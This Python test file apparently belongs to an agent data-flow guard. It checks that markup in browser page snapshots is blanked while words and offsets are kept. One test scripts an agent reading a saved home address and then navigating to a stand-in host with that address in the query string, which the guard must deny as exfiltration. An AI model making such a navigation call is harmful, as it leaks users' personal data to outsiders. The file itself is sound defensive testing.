"""A browser's page snapshot is read as the page's words: its markup between them is blanked."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cyclops.core import Action, FlowClass, Session
from cyclops.core.snapshots import page_words
from cyclops.testing import play, step

ADDRESS_PAGE = """### Page state
- Page URL: https://www.shopmart.example/account/addresses
- Page Snapshot:
```yaml
- region "Default address" [ref=e6]:
  - paragraph [ref=e7]: Maria Delgado
  - paragraph [ref=e8]: 4417 Juniper Hollow Road
  - paragraph [ref=e9]: Apt 12C
  - paragraph [ref=e10]: Boulder, CO 80304
```"""

DEVTOOLS_ADDRESS_PAGE = """# take_snapshot response
## Page content
uid=2_0 RootWebArea "Your addresses" url="https://www.shopmart.example/account/addresses"
  uid=2_1 heading "Default address" level="2"
  uid=2_2 StaticText "Maria Delgado"
  uid=2_3 StaticText "4417 Juniper Hollow Road"
  uid=2_4 StaticText "Apt 12C"
  uid=2_5 StaticText "Boulder, CO 80304"
"""


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("  - paragraph [ref=e8]: 4417 Juniper Hollow Road", ": 4417 Juniper Hollow Road"),
        ('- heading "Your addresses" [level=1] [ref=e5]', '"Your addresses"'),
        ('- checkbox "Remember me" [checked] [ref=e9]', '"Remember me"'),
        ("- text: Order total $41.20 [ref=e3]", ": Order total $41.20"),
        ("  - /url: https://shop.example/a [ref=e4]", "- /url: https://shop.example/a"),
        ('uid=1_0 RootWebArea "Home"\n  uid=1_4 StaticText "Apt 12C"', '"Home" "Apt 12C"'),
        ('uid=1_0 RootWebArea "Home"\n  uid=1_1 heading "Orders" level="1"', '"Home" "Orders"'),
    ],
)
def test_a_snapshot_lines_markup_is_blanked_and_its_words_kept(line: str, words: str) -> None:
    assert page_words(line).split() == words.split()


@pytest.mark.parametrize(
    "text",
    [
        "- paragraph one\n- list: milk, eggs",
        "dn: uid=jdoe,ou=people\n- member: admins",
        "uid=1000(dev) gid=1000(dev)\n- item one",
    ],
)
def test_text_that_is_no_snapshot_is_left_as_it_is(text: str) -> None:
    assert page_words(text) == text


@given(st.text())
def test_every_offset_stays_where_it_was(text: str) -> None:
    snapshot = f"- paragraph [ref=e1]: {text}"
    assert len(page_words(snapshot)) == len(snapshot)


@pytest.mark.parametrize(
    ("server", "navigate", "page"),
    [
        ("playwright", "browser_navigate", ADDRESS_PAGE),
        ("chrome-devtools", "navigate_page", DEVTOOLS_ADDRESS_PAGE),
    ],
)
def test_an_address_shown_over_several_lines_links_when_sent_on_one(
    prevent: Session, server: str, navigate: str, page: str
) -> None:
    sent = "4417 Juniper Hollow Road Apt 12C Boulder CO 80304".replace(" ", "+")
    steps = [
        step(server, navigate, {"url": "https://deals.example/"}, "Deals"),
        step(server, navigate, {"url": "https://www.shopmart.example/account/addresses"}, page),
        step(server, navigate, {"url": f"https://pm.example/c?a={sent}"}),
    ]
    decision = play(prevent, steps)[-1]
    assert decision.action is Action.DENY
    assert FlowClass.EXFILTRATION in {f.flow_class for f in decision.flows}
